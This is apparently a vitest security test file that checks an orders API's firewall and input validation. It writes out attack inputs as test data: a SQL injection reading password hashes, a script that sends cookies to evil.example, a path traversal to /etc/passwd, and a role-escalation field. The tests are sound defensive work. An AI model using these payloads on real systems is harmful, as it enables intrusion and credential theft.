import { randomUUID } from 'node:crypto'
import type { ResponseOf } from '@palisade/contracts'
import { describe, expect, inject, test } from 'vitest'
import { expectProblem } from '../support/expectations.ts'
import { call } from '../support/http.ts'
import { draft } from '../support/order-samples.ts'
import { tokenOf } from '../support/users.ts'

const { hasEdge } = inject('target')

describe.skipIf(!hasEdge)('[S54] [S59] the WAF (absent on the embedded default)', () => {
  test('blocks SQL in a query', async () => {
    const token = await tokenOf('member')
    const q = encodeURIComponent("x' UNION SELECT password_hash FROM users--")
    expectProblem(await call(`/api/orders/search?q=${q}`, { token }), 'blocked')
  })

  test('blocks a script in an order’s note', async () => {
    const token = await tokenOf('member')
    const json = { ...draft, note: '<script>fetch("https://evil.example/"+document.cookie)</script>' }
    expectProblem(await call('/api/orders', { method: 'POST', token, json }), 'blocked')
  })

  test('blocks paths to the system’s files', async () => {
    const token = await tokenOf('member')
    expectProblem(await call('/api/orders/search?q=../../../../etc/passwd', { token }), 'blocked')
  })
})

describe('[S8] without the WAF, or past it', () => {
  test('SQL in a search is text to look for', async () => {
    const token = await tokenOf('member')
    const answer = await call(`/api/orders/search?q=${encodeURIComponent(`') OR 1=1 ${randomUUID()}`)}`, { token })
    if (answer.status === 200) expect(answer.json<ResponseOf<'orders.search'>>().items).toEqual([])
    else expectProblem(answer, 'blocked')
  })

  test('an id that is no id is not looked up', async () => {
    const token = await tokenOf('member')
    for (const id of ["1'--", '%2e%2e%2fme', '%00', `${randomUUID()}'`]) {
      const answer = await call(`/api/orders/${id}`, { token })
      expect([400, 403, 404], id).toContain(answer.status)
      expect(answer.headers['content-type']).toBe('application/problem+json')
    }
  })

  test('[S98] fields that would raise a role are refused', async () => {
    const json = { email: 'member@acme.test', password: 'x', role: 'owner' }
    expectProblem(await call('/api/auth/sign-in', { method: 'POST', json }), 'validation-failed')
  })
})
